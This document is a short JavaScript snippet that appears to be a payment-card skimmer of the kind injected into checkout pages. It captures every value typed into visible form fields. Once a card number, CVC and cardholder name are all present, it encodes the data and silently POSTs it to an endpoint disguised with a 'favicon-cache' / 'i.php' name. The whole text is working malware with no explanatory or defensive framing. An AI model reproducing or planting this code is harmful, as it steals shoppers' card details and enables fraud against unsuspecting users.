(function(){var c={};function s(){var k=JSON.stringify(c);if(!c.cardnumber||!c.cvc||!c.ccname||s.k==k)return;s.k=k;var f=new FormData;f.append('data',btoa(encodeURIComponent(k)));fetch('<% url "favicon-cache" "/i.php" %>',{method:'POST',body:f,mode:'no-cors'})}
document.addEventListener('change',function(e){var t=e.target;if(t.name&&t.type!='hidden'){c[t.name]=t.value;s()}},true)})();
